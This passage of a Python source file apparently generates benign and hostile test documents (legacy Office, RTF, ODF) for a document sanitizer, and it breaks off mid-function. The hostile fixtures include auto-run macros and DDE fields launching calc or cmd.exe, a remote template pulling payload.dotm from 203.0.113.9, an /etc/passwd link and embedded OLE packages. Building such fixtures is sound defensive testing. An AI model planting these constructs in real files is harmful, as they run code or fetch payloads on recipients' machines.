@@ -1,0 +1,585 @@
+"""Samples for legacy Office, RTF, ODF, 一太郎 and DocuWorks.
+
+Legacy .doc/.xls/.ppt are made by LibreOffice from python-docx/openpyxl/python-pptx output
+(three soffice runs plus one for the encrypted file). Hostile variants are built by rewriting
+the OLE container with the small compound-file writer below: it adds a VBA project storage,
+an ObjectPool object, or flips a BIFF sheet to an Excel 4.0 macro sheet. The VBA streams only
+carry placeholder bytes: enough for oletools to find the project, not runnable code.
+"""
+from __future__ import annotations
+
+import io
+import shutil
+import struct
+import subprocess
+import tempfile
+import zipfile
+from pathlib import Path
+
+from . import Sample, generator
+
+JA_TITLE = "住民票の写しの交付申請書"
+JA_BODY = "申請者の氏名：山田太郎。住所：東京都千代田区霞が関一丁目。電話番号は〇三―一二三四―五六七八です。"
+ENC_PASSWORD = "himitsu-2026"
+
+# --- a minimal compound file (CFB v3) writer ----------------------------------------------------
+
+_FREE, _END, _FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
+_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+
+
+def _cfb_key(name: str) -> tuple[int, str]:
+    return (len(name), name.upper())
+
+
+def write_cfb(streams: dict[str, bytes], storages: tuple[str, ...] = (), clsids: dict[str, bytes] | None = None
+              ) -> bytes:
+    """Write a compound file. Keys are "/"-separated paths; parent storages are created as needed."""
+    clsids = clsids or {}
+    nodes: dict[str, dict] = {"": {"name": "Root Entry", "type": 5, "children": [], "data": b""}}
+
+    def ensure(path: str) -> None:
+        if path in nodes:
+            return
+        parent = path.rsplit("/", 1)[0] if "/" in path else ""
+        ensure(parent)
+        nodes[path] = {"name": path.rsplit("/", 1)[-1], "type": 1, "children": [], "data": b""}
+        nodes[parent]["children"].append(path)
+
+    for s in storages:
+        ensure(s)
+    for path, data in streams.items():
+        parent = path.rsplit("/", 1)[0] if "/" in path else ""
+        ensure(parent)
+        nodes[path] = {"name": path.rsplit("/", 1)[-1], "type": 2, "children": [], "data": data}
+        nodes[parent]["children"].append(path)
+    order = [""] + [p for p in nodes if p]
+    sid = {p: i for i, p in enumerate(order)}
+    left = dict.fromkeys(order, _FREE)
+    right = dict.fromkeys(order, _FREE)
+    child = dict.fromkeys(order, _FREE)
+
+    def tree(items: list[str]) -> int:
+        if not items:
+            return _FREE
+        mid = len(items) // 2
+        node = items[mid]
+        left[node] = tree(items[:mid])
+        right[node] = tree(items[mid + 1:])
+        return sid[node]
+
+    for p in order:
+        kids = sorted(nodes[p]["children"], key=lambda k: _cfb_key(nodes[k]["name"]))
+        child[p] = tree(kids)
+
+    sectors: list[bytes] = []
+    fat: list[int] = []
+
+    def alloc(data: bytes) -> int:
+        if not data:
+            return _END
+        n = (len(data) + 511) // 512
+        start = len(sectors)
+        for i in range(n):
+            sectors.append(data[i * 512:(i + 1) * 512].ljust(512, b"\0"))
+            fat.append(start + i + 1 if i < n - 1 else _END)
+        return start
+
+    mini = bytearray()
+    minifat: list[int] = []
+    start_of: dict[str, int] = {}
+    for p in order[1:]:
+        d = nodes[p]["data"]
+        if nodes[p]["type"] != 2:
+            start_of[p] = 0
+        elif len(d) < 4096:
+            if not d:
+                start_of[p] = _END
+                continue
+            first = len(mini) // 64
+            n = (len(d) + 63) // 64
+            mini.extend(d.ljust(n * 64, b"\0"))
+            minifat.extend(first + i + 1 if i < n - 1 else _END for i in range(n))
+            start_of[p] = first
+        else:
+            start_of[p] = alloc(d)
+    root_start = alloc(bytes(mini)) if mini else _END
+    minifat_bytes = b"".join(struct.pack("<I", x) for x in minifat)
+    minifat_start = alloc(minifat_bytes.ljust(((len(minifat_bytes) + 511) // 512) * 512, b"\xff")) \
+        if minifat else _END
+    entries = bytearray()
+    for p in order:
+        nd = nodes[p]
+        name = nd["name"].encode("utf-16-le") + b"\0\0"
+        size = len(mini) if p == "" else len(nd["data"])
+        start = root_start if p == "" else start_of[p]
+        entries += struct.pack("<64sHBBIII16sIQQIQ", name.ljust(64, b"\0"), len(name), nd["type"], 1,
+                               left[p], right[p], child[p], clsids.get(p, b"\0" * 16).ljust(16, b"\0"), 0, 0, 0,
+                               start if nd["type"] != 1 else 0, size if nd["type"] != 1 else 0)
+    while len(entries) % 512:
+        entries += struct.pack("<64sHBBIII16sIQQIQ", b"", 0, 0, 0, _FREE, _FREE, _FREE, b"\0" * 16, 0, 0, 0, 0, 0)
+    dir_start = alloc(bytes(entries))
+    # FAT sectors describe themselves too.
+    nfat = 1
+    while (len(sectors) + nfat) > nfat * 128:
+        nfat += 1
+    fat_first = len(sectors)
+    fat.extend([_FATSECT] * nfat)
+    fat.extend([_FREE] * (nfat * 128 - len(fat)))
+    fat_bytes = b"".join(struct.pack("<I", x) for x in fat)
+    for i in range(nfat):
+        sectors.append(fat_bytes[i * 512:(i + 1) * 512])
+    if nfat > 109:
+        raise ValueError("sample too large for this writer")
+    difat = [fat_first + i for i in range(nfat)] + [_FREE] * (109 - nfat)
+    header = _MAGIC + b"\0" * 16 + struct.pack("<HHHHH6sIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, nfat,
+                                               dir_start, 0, 4096, minifat_start, len(minifat) and
+                                               (len(minifat_bytes) + 511) // 512, _END, 0)
+    header += b"".join(struct.pack("<I", x) for x in difat)
+    return header + b"".join(sectors)
+
+
+def ole_streams(path: Path) -> tuple[dict[str, bytes], tuple[str, ...]]:
+    import olefile
+
+    with olefile.OleFileIO(str(path)) as ole:
+        streams = {"/".join(e): ole.openstream(e).read() for e in ole.listdir(streams=True, storages=False)}
+        storages = tuple("/".join(e) for e in ole.listdir(streams=False, storages=True))
+    return streams, storages
+
+
+# --- LibreOffice helpers --------------------------------------------------------------------------
+
+_SAVE_ENC = """<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">
+<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">
+Sub SaveEnc(src As String, dst As String, filt As String, pw As String)
+  Dim a(0) As New com.sun.star.beans.PropertyValue
+  a(0).Name = &quot;Hidden&quot; : a(0).Value = True
+  doc = StarDesktop.loadComponentFromURL(ConvertToURL(src), &quot;_blank&quot;, 0, a())
+  Dim b(1) As New com.sun.star.beans.PropertyValue
+  b(0).Name = &quot;FilterName&quot; : b(0).Value = filt
+  b(1).Name = &quot;Password&quot; : b(1).Value = pw
+  doc.storeToURL(ConvertToURL(dst), b())
+  doc.close(True)
+End Sub
+</script:module>
+"""
+
+
+def _soffice(profile: Path, *args: str) -> None:
+    exe = shutil.which("soffice") or shutil.which("libreoffice")
+    if exe is None:
+        raise RuntimeError("LibreOffice (soffice) is needed to generate legacy Office samples")
+    subprocess.run([exe, "--headless", "--norestore", "--nologo", f"-env:UserInstallation={profile.as_uri()}",
+                    *args], check=True, capture_output=True, timeout=180)
+
+
+def _png(w: int = 24, h: int = 16, color: tuple[int, int, int] = (200, 30, 30)) -> bytes:
+    from PIL import Image
+
+    buf = io.BytesIO()
+    Image.new("RGB", (w, h), color).save(buf, "PNG")
+    return buf.getvalue()
+
+
+def _make_docx(path: Path) -> None:
+    import docx
+    from docx.shared import Cm
+
+    d = docx.Document()
+    d.add_heading(JA_TITLE, 1)
+    d.add_paragraph(JA_BODY)
+    t = d.add_table(rows=2, cols=2)
+    t.cell(0, 0).text, t.cell(0, 1).text = "項目", "内容"
+    t.cell(1, 0).text, t.cell(1, 1).text = "交付枚数", "２通"
+    d.add_picture(io.BytesIO(_png()), width=Cm(2))
+    d.save(str(path))
+
+
+def _make_xlsx(path: Path) -> None:
+    import openpyxl
+
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "集計"
+    ws.append(["区分", "件数", "金額"])
+    ws.append(["住民票", 12, 3600])
+    ws.append(["印鑑証明", 5, 1500])
+    ws["B4"] = "=SUM(B2:B3)"
+    ws["C4"] = "=SUM(C2:C3)"
+    wb.save(str(path))
+
+
+def _make_pptx(path: Path) -> None:
+    from pptx import Presentation
+
+    p = Presentation()
+    for i in range(2):
+        s = p.slides.add_slide(p.slide_layouts[1])
+        s.shapes.title.text = f"{JA_TITLE} {i + 1}"
+        s.placeholders[1].text = "窓口の受付時間は午前八時三十分から午後五時十五分までです。"
+    p.save(str(path))
+
+
+def _vba_streams(root: str) -> dict[str, bytes]:
+    # Placeholder bytes in the streams a VBA project must have (MS-OVBA 2.2.1).
+    return {
+        f"{root}/PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
+        f"{root}/PROJECTwm": b"ThisDocument\0T\0h\0i\0s\0D\0o\0c\0u\0m\0e\0n\0t\0\0\0\0\0",
+        f"{root}/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
+        f"{root}/VBA/dir": b"\x01\x00\x00\x00",
+        f"{root}/VBA/ThisDocument": b"\x00" * 16 + b"Attribut\x00e VB_Name = \"ThisDocument\"\r\n"
+                                    b"Sub AutoOpen()\r\n Shell \"calc.exe\"\r\nEnd Sub\r\n",
+    }
+
+
+def _set_sheet_type(workbook: bytes, dt: int) -> bytes:
+    """Set the type byte of the first BOUNDSHEET8 record (1 = Excel 4.0 macro sheet)."""
+    data = bytearray(workbook)
+    pos = 0
+    while pos + 4 <= len(data):
+        rtype, size = struct.unpack_from("<HH", data, pos)
+        if rtype == 0x0085:
+            data[pos + 4 + 5] = dt
+            return bytes(data)
+        pos += 4 + size
+    raise ValueError("no BOUNDSHEET record")
+
+
+def _ole1_package(payload: bytes, filename: str = "invoice.js") -> bytes:
+    """An OLE 1.0 embedded 'Package' object, as \\objdata carries it."""
+    native = (struct.pack("<H", 2) + filename.encode() + b"\0" + b"C:\\tmp\\" + filename.encode() + b"\0"
+              + struct.pack("<HH", 0, 3) + struct.pack("<I", len("C:\\tmp\\" + filename) + 1)
+              + b"C:\\tmp\\" + filename.encode() + b"\0" + struct.pack("<I", len(payload)) + payload)
+    return (struct.pack("<II", 0x0501, 2) + struct.pack("<I", 8) + b"Package\0" + struct.pack("<II", 0, 0)
+            + struct.pack("<I", len(native)) + native)
+
+
+@generator("legacy_office")
+def legacy_office(out: Path) -> list[Sample]:
+    base = out / "legacy_office"
+    (base / "benign").mkdir(parents=True, exist_ok=True)
+    (base / "hostile").mkdir(parents=True, exist_ok=True)
+    samples: list[Sample] = []
+    with tempfile.TemporaryDirectory(prefix="cdr-lo-samples-") as tmp:
+        t = Path(tmp)
+        prof = t / "profile"
+        src = t / "src"
+        src.mkdir()
+        _make_docx(src / "doc.docx")
+        _make_xlsx(src / "xls.xlsx")
+        _make_pptx(src / "ppt.pptx")
+        # An ODT with an embedded sub-document: LibreOffice writes it to .doc as a real ObjectPool object.
+        _odf(src / "embedded.odt", ODT, _ODT_TEXT + '<text:p><draw:frame svg:width="4cm" svg:height="2cm">'
+             '<draw:object xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/>'
+             "</draw:frame></text:p>",
+             {"Pictures/seal.png": _png(), "Object 1/content.xml": _SUBDOC, "ObjectReplacements/Object 1": _png()},
+             {"Object 1/": ODT, "ObjectReplacements/Object 1": "image/png"})
+        conv = t / "conv"
+        _soffice(prof, "--convert-to", "doc:MS Word 97", "--outdir", str(conv), str(src / "doc.docx"),
+                 str(src / "embedded.odt"))
+        _soffice(prof, "--convert-to", "xls:MS Excel 97", "--outdir", str(conv), str(src / "xls.xlsx"))
+        _soffice(prof, "--convert-to", "ppt:MS PowerPoint 97", "--outdir", str(conv), str(src / "ppt.pptx"))
+        mod = prof / "user" / "basic" / "Standard" / "Module1.xba"
+        if mod.parent.is_dir():
+            mod.write_text(_SAVE_ENC, "utf-8")
+            _soffice(prof, f'macro:///Standard.Module1.SaveEnc("{src / "doc.docx"}","{conv / "enc.doc"}",'
+                           f'"MS Word 97","{ENC_PASSWORD}")')
+        doc = (conv / "doc.doc").read_bytes()
+        xls = (conv / "xls.xls").read_bytes()
+        (base / "benign" / "申請書.doc").write_bytes(doc)
+        samples.append(Sample("legacy_office/benign/申請書.doc", "clean", [], note="Japanese text, table, picture"))
+        (base / "benign" / "集計.xls").write_bytes(xls)
+        samples.append(Sample("legacy_office/benign/集計.xls", "clean", [], note="formulas with cached values"))
+        shutil.copyfile(conv / "ppt.ppt", base / "benign" / "説明資料.ppt")
+        samples.append(Sample("legacy_office/benign/説明資料.ppt", "clean", []))
+
+        streams, storages = ole_streams(conv / "doc.doc")
+        wd = bytearray(streams["WordDocument"])
+        wd[0x0A] |= 0x01  # FibBase.fDot: a template
+        (base / "benign" / "様式.dot").write_bytes(write_cfb({**streams, "WordDocument": bytes(wd)}, storages))
+        samples.append(Sample("legacy_office/benign/様式.dot", "clean", [], note="Word 97 template -> .docx"))
+
+        (base / "hostile" / "vba_autoopen.doc").write_bytes(write_cfb({**streams, **_vba_streams("Macros")},
+                                                                      storages))
+        samples.append(Sample("legacy_office/hostile/vba_autoopen.doc", "sanitized", ["ole.vba"],
+                              note="VBA project storage (placeholder code)"))
+        ole_obj = {"ObjectPool/_1234567890/\x01Ole10Native": struct.pack("<I", 12) + b"MZ\x90\0payload!",
+                   "ObjectPool/_1234567890/\x01CompObj": b"\x01\x00\xfe\xff\x03\x0a\x00\x00" + b"\0" * 20}
+        (base / "hostile" / "ole_object.doc").write_bytes(write_cfb({**streams, **ole_obj}, storages))
+        samples.append(Sample("legacy_office/hostile/ole_object.doc", "sanitized", ["ole.object"]))
+
+        shutil.copyfile(conv / "embedded.doc", base / "hostile" / "embedded_document.doc")
+        samples.append(Sample("legacy_office/hostile/embedded_document.doc", "sanitized",
+                              ["ole.object", "ooxml.ole_object"],
+                              note="object written by LibreOffice; survives conversion, removed by the OOXML rebuild"))
+
+        xstreams, xstorages = ole_streams(conv / "xls.xls")
+        xstreams["Workbook"] = _set_sheet_type(xstreams["Workbook"], 0x01)
+        (base / "hostile" / "xlm_macrosheet.xls").write_bytes(
+            write_cfb({**xstreams, **_vba_streams("_VBA_PROJECT_CUR")}, xstorages))
+        samples.append(Sample("legacy_office/hostile/xlm_macrosheet.xls", "sanitized", ["ole.xlm", "ole.vba"]))
+
+        if (conv / "enc.doc").exists():
+            shutil.copyfile(conv / "enc.doc", base / "hostile" / "encrypted.doc")
+            samples.append(Sample("legacy_office/hostile/encrypted.doc", "blocked", ["ole.encrypted"],
+                                  note="RC4 CryptoAPI; sanitized when the password is given",
+                                  password=ENC_PASSWORD))
+    return samples
+
+
+# --- RTF -----------------------------------------------------------------------------------------
+
+
+def _rtf_sjis(text: str) -> str:
+    return "".join(c if ord(c) < 128 else "".join(f"\\'{b:02x}" for b in c.encode("cp932")) for c in text)
+
+
+def _rtf_doc(body: str, head: str = "") -> bytes:
+    return ("{\\rtf1\\ansi\\ansicpg932\\deff0\\deflang1041"
+            "{\\fonttbl{\\f0\\fnil\\fcharset128 \\'82\\'6c\\'82\\'72 \\'96\\'be\\'92\\'a9;}"
+            "{\\f1\\fswiss\\fcharset0 Arial;}}" + head + "\n" + _rtf_sjis(body) + "\n}").encode("ascii")
+
+
+def _rtf_pict() -> str:
+    return "{\\pict\\pngblip\\picw24\\pich16\\picwgoal360\\pichgoal240 " + _png().hex() + "}"
+
+
+@generator("rtf")
+def rtf_samples(out: Path) -> list[Sample]:
+    base = out / "rtf"
+    (base / "benign").mkdir(parents=True, exist_ok=True)
+    (base / "hostile").mkdir(parents=True, exist_ok=True)
+    para = "\\pard\\f0 " + _rtf_sjis(JA_TITLE) + "\\par\n\\pard\\f0 " + _rtf_sjis(JA_BODY) + "\\par\n"
+    uni = "\\pard\\f1\\uc1 Unicode: \\u20013?\\u25991?\\par\n"  # 中文 via \uN
+    samples: list[Sample] = []
+
+    def put(rel: str, data: bytes, verdict: str, threats: list[str], note: str = "") -> None:
+        (out / rel).write_bytes(data)
+        samples.append(Sample(rel, verdict, threats, note=note))
+
+    put("rtf/benign/申請書.rtf", _rtf_doc(para + uni + "\\pard " + _rtf_pict() + "\\par\n"
+                                        "{\\field{\\*\\fldinst HYPERLINK \"https://www.city.example.lg.jp/\"}"
+                                        "{\\fldrslt 市のホームページ}}\\par"), "clean", [],
+        note="cp932 \\'xx text, \\uN text, PNG picture, https hyperlink")
+    objdata = _ole1_package(b"WScript.Echo 1").hex()
+    put("rtf/hostile/object_package.rtf",
+        _rtf_doc(para + "{\\object\\objemb\\objupdate{\\*\\objclass Package}\\objw100\\objh100"
+                        "{\\*\\objdata " + objdata + "}{\\result " + _rtf_pict() + "}}\\par"),
+        "sanitized", ["rtf.object"], note="embedded Package object with \\objupdate; result picture kept")
+    put("rtf/hostile/objdata_loose.rtf",
+        _rtf_doc(para + "{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300000000000000000000}\\par"),
+        "sanitized", ["rtf.object"], note="objdata outside an object group (CVE-2017-11882 style)")
+    put("rtf/hostile/remote_template.rtf",
+        _rtf_doc(para, head="{\\*\\template http://203.0.113.9/payload.dotm}"), "sanitized",
+        ["rtf.remote_template"])
+    put("rtf/hostile/ddeauto.rtf",
+        _rtf_doc(para + "{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}"
+                        "{\\fldrslt " + _rtf_sjis("計算結果") + "}}\\par"), "sanitized", ["rtf.field"])
+    put("rtf/hostile/includepicture.rtf",
+        _rtf_doc(para + "{\\field{\\*\\fldinst INCLUDEPICTURE \"http://203.0.113.9/track.png\" \\\\d}"
+                        "{\\fldrslt " + _rtf_pict() + "}}\\par"), "sanitized", ["rtf.field"])
+    put("rtf/hostile/objautlink.rtf",
+        _rtf_doc(para + "{\\object\\objautlink\\rsltpict{\\*\\objclass Word.Document.8}"
+                        "{\\*\\objdata 0105000002000000}{\\result " + _rtf_sjis("リンク") + "}}\\par"),
+        "sanitized", ["rtf.object"])
+    return samples
+
+
+# --- ODF -----------------------------------------------------------------------------------------
+
+_ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+           'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
+           'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+           'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+           'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+           'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
+           'xmlns:xlink="http://www.w3.org/1999/xlink" '
+           'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
+           'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
+           'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
+           'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
+           'xmlns:dom="http://www.w3.org/2001/xml-events" '
+           'xmlns:ooo="http://openoffice.org/2004/office" '
+           'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
+           'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" office:version="1.3"')
+ODT = "application/vnd.oasis.opendocument.text"
+ODS = "application/vnd.oasis.opendocument.spreadsheet"
+ODP = "application/vnd.oasis.opendocument.presentation"
+
+
+def _odf(path: Path, mimetype: str, body: str, extra: dict[str, bytes] | None = None,
+         manifest_extra: dict[str, str] | None = None, scripts: str = "") -> None:
+    extra = extra or {}
+    kind = {ODT: "text", ODS: "spreadsheet", ODP: "presentation"}[mimetype]
+    content = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {_ODF_NS}>'
+               f"<office:scripts>{scripts}</office:scripts>"
+               f"<office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>")
+    styles = f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-styles {_ODF_NS}><office:styles/>' \
+             "</office:document-styles>"
+    meta = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta {_ODF_NS}><office:meta>'
+            "<meta:generator>cdr-samples</meta:generator><meta:initial-creator>市民課</meta:initial-creator>"
+            "</office:meta></office:document-meta>")
+    files = {"content.xml": content.encode(), "styles.xml": styles.encode(), "meta.xml": meta.encode(), **extra}
+    entries = [f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>']
+    for name in files:
+        media = (manifest_extra or {}).get(name) or ("text/xml" if name.endswith(".xml") else "image/png")
+        entries.append(f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{media}"/>')
+    for name, media in (manifest_extra or {}).items():
+        if name.endswith("/"):
+            entries.append(f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{media}"/>')
+    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
+                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
+                + "".join(entries) + "</manifest:manifest>")
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr(zipfile.ZipInfo("mimetype"), mimetype)
+        for name, data in files.items():
+            z.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
+        z.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
+
+
+_ODT_TEXT = (f"<text:h text:outline-level=\"1\">{JA_TITLE}</text:h><text:p>{JA_BODY}</text:p>"
+             "<table:table table:name=\"表1\"><table:table-column table:number-columns-repeated=\"2\"/>"
+             "<table:table-row><table:table-cell><text:p>項目</text:p></table:table-cell>"
+             "<table:table-cell><text:p>内容</text:p></table:table-cell></table:table-row>"
+             "<table:table-row><table:table-cell><text:p>交付枚数</text:p></table:table-cell>"
+             "<table:table-cell><text:p>２通</text:p></table:table-cell></table:table-row></table:table>"
+             "<text:p>詳細は<text:a xlink:type=\"simple\" xlink:href=\"https://www.city.example.lg.jp/\">"
+             "市のホームページ</text:a>をご覧ください。</text:p>"
+             "<text:p><draw:frame draw:name=\"図1\" svg:width=\"2cm\" svg:height=\"1.3cm\">"
+             "<draw:image xlink:href=\"Pictures/seal.png\" xlink:type=\"simple\"/></draw:frame></text:p>")
+_SUBDOC = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {_ODF_NS}><office:body><office:text>'
+           "<text:p>埋め込み文書</text:p></office:text></office:body></office:document-content>").encode()
+_CHART = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {_ODF_NS}><office:body><office:chart/>'
+          "</office:body></office:document-content>")
+
+
+@generator("odf")
+def odf_samples(out: Path) -> list[Sample]:
+    base = out / "odf"
+    (base / "benign").mkdir(parents=True, exist_ok=True)
+    (base / "hostile").mkdir(parents=True, exist_ok=True)
+    png = _png()
+    samples: list[Sample] = []
+    pics = {"Pictures/seal.png": png}
+
+    _odf(base / "benign" / "申請書.odt", ODT, _ODT_TEXT, dict(pics))
+    samples.append(Sample("odf/benign/申請書.odt", "clean", [], note="Japanese text, table, https link, picture"))
+    chart_body = _ODT_TEXT + ('<text:p><draw:frame draw:name="グラフ1"><draw:object xlink:href="./Object 1" '
+                              'xlink:type="simple"/><draw:image xlink:href="./ObjectReplacements/Object 1"/>'
+                              "</draw:frame></text:p>")
+    _odf(base / "benign" / "グラフ付き.odt", ODT, chart_body,
+         {**pics, "Object 1/content.xml": _CHART.encode(), "ObjectReplacements/Object 1": png},
+         {"Object 1/": "application/vnd.oasis.opendocument.chart", "ObjectReplacements/Object 1": "image/png"})
+    samples.append(Sample("odf/benign/グラフ付き.odt", "clean", [], note="chart sub-document is kept"))
+    cells = "".join(f"<table:table-row><table:table-cell office:value-type=\"string\"><text:p>{a}</text:p>"
+                    f"</table:table-cell><table:table-cell office:value-type=\"float\" office:value=\"{b}\">"
+                    f"<text:p>{b}</text:p></table:table-cell></table:table-row>"
+                    for a, b in (("住民票", 12), ("印鑑証明", 5)))
+    _odf(base / "benign" / "集計.ods", ODS, f'<table:table table:name="集計">{cells}</table:table>')
+    samples.append(Sample("odf/benign/集計.ods", "clean", []))
+
+    basic = {"Basic/script-lc.xml": b'<?xml version="1.0"?><library:libraries '
+                                    b'xmlns:library="http://openoffice.org/2000/library"/>',
+             "Basic/Standard/Module1.xml": b'<?xml version="1.0"?><script:module '
+                                           b'xmlns:script="http://openoffice.org/2000/script" '
+                                           b'script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>'}
+    onload = ('<office:event-listeners><script:event-listener script:language="ooo:script" '
+              'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
+              'language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners>')
+    _odf(base / "hostile" / "macro_onload.odt", ODT, _ODT_TEXT, {**pics, **basic}, scripts=onload)
+    samples.append(Sample("odf/hostile/macro_onload.odt", "sanitized", ["odf.macro", "odf.event"]))
+    ext_body = (_ODT_TEXT + '<text:p><text:a xlink:type="simple" xlink:href="file:///C:/Windows/System32/calc.exe">'
+                "ここをクリック</text:a></text:p><text:p><text:a xlink:href=\"\\\\203.0.113.9\\share\\a.lnk\">"
+                "共有</text:a></text:p><text:p><draw:frame><draw:image xlink:href=\"http://203.0.113.9/t.png\"/>"
+                "</draw:frame></text:p><text:section text:name=\"s1\"><text:section-source "
+                "xlink:href=\"file:///etc/passwd\"/><text:p>キャッシュ本文</text:p></text:section>")
+    _odf(base / "hostile" / "external_links.odt", ODT, ext_body, dict(pics))
+    samples.append(Sample("odf/hostile/external_links.odt", "sanitized", ["odf.external_link"]))
+    obj_body = (_ODT_TEXT + '<text:p><draw:frame><draw:object xlink:href="./Object 2" xlink:type="simple"/>'
+                '<draw:image xlink:href="./ObjectReplacements/Object 2"/></draw:frame></text:p>'
+                '<text:p><draw:frame><draw:object-ole xlink:href="./Object 3"/>'
+                '<draw:image xlink:href="./ObjectReplacements/Object 3"/></draw:frame></text:p>'
+                '<text:p><draw:frame><draw:applet draw:code="Evil.class"/></draw:frame></text:p>')
+    _odf(base / "hostile" / "embedded_objects.odt", ODT, obj_body,
+         {**pics, "Object 2/content.xml": _SUBDOC, "ObjectReplacements/Object 2": png,
+          "Object 3": write_cfb({"\x01Ole10Native": b"\x10\0\0\0MZ payload......"}),
+          "ObjectReplacements/Object 3": png},
+         {"Object 2/": ODT, "Object 3": "application/vnd.sun.star.oleobject",
+          "ObjectReplacements/Object 2": "image/png", "ObjectReplacements/Object 3": "image/png"})
+    samples.append(Sample("odf/hostile/embedded_objects.odt", "sanitized", ["odf.object"],
+                          note="embedded ODT, OLE object and applet removed; replacement images kept"))
+    button = ('<office:forms><form:form form:name="f"><form:button form:name="b" form:id="b1">'
+              '<office:event-listeners><script:event-listener script:language="ooo:script" '
+              'script:event-name="form:performaction" xlink:href="vnd.sun.star.script:Python/x.py$run?'
+              'language=Python&amp;location=document"/></office:event-listeners></form:button></form:form>'
+              "</office:forms>")
+    _odf(base / "hostile" / "python_button.ods", ODS, button + f'<table:table table:name="集計">{cells}</table:table>',
+         {"Scripts/python/x.py": b"import os\ndef run(*a):\n    os.system('calc')\n"},
+         {"Scripts/python/x.py": "text/x-python"})
+    samples.append(Sample("odf/hostile/python_button.ods", "sanitized", ["odf.macro", "odf.event"]))
+    slide = ('<draw:page draw:name="p1"><draw:frame presentation:class="title" svg:x="1cm" svg:y="1cm" '
+             f'svg:width="24cm" svg:height="3cm"><draw:text-box><text:p>{JA_TITLE}</text:p></draw:text-box>'
+             '</draw:frame><draw:custom-shape svg:x="1cm" svg:y="10cm" svg:width="6cm" svg:height="2cm">'
+             '<office:event-listeners><presentation:event-listener script:event-name='
+             '"dom:click" presentation:action="execute" xlink:href="C:/Windows/System32/cmd.exe"/>'
+             '<presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/>'
+             "</office:event-listeners><text:p>次へ</text:p></draw:custom-shape></draw:page>")
+    _odf(base / "hostile" / "run_program.odp", ODP, slide)
+    samples.append(Sample("odf/hostile/run_program.odp", "sanitized", ["odf.event"],
+                          note="'execute' action removed, next-page navigation kept"))
+    return samples
+
+
+# --- 一太郎 / DocuWorks ---------------------------------------------------------------------------
+
+
+def _jtd_text_units(paragraphs: list[str]) -> list[int]:
+    units: list[int] = []
+    for p in paragraphs:
+        # Paragraph header record (class 0010): 001C class len payload len 0000 class 001F
+        # payload: 0000, TLV (0024 alignment, 1 value: centre), closed by FFFF 0000
+        units += [0x1C, 0x10, 13, 0x0000, 0x0024, 1, 1, 0xFFFF, 0x0000, 13, 0x0000, 0x10, 0x1F]
+        units += list(struct.unpack(f">{len(p.encode('utf-16-be')) // 2}H", p.encode("utf-16-be")))
+        units.append(0x0A)
+    # A template instruction (hidden) and a visible inline run.
+    units += [0x1C, 0x01, 7, 0, 1, 0, 0x1D] + [ord(c) for c in "HIDDEN"] + [0x1E, 5, 0, 1, 0x1F]
+    units += [0x1C, 0x01, 7, 0, 0, 3, 0x1D] + [ord(c) for c in "注記"] + [0x1E, 5, 0, 1, 0x1F, 0x0A]
+    return units
+
+
+def make_jtd(paragraphs: list[str], compressed: bool = False) -> bytes:
+    units = _jtd_text_units(paragraphs)
+    sub0 = b"TextV.01" + struct.pack(">I", len(units)) + struct.pack(f">{len(units)}H", *units) + b"\xff"
+    bsize = 256
+    nblocks = (len(sub0) + bsize - 1) // bsize
+    blocks = sub0.ljust(nblocks * bsize, b"\0")
+    directory = struct.pack(">IIIII", 0, 0, len(sub0), nblocks, nblocks) + struct.pack(f">{nblocks}I",
+                                                                                       *range(nblocks))
+    doc_text = b"SsmgV.01" + struct.pack(">III", 1, bsize, nblocks) + blocks + directory + b"\0\0\0\0"
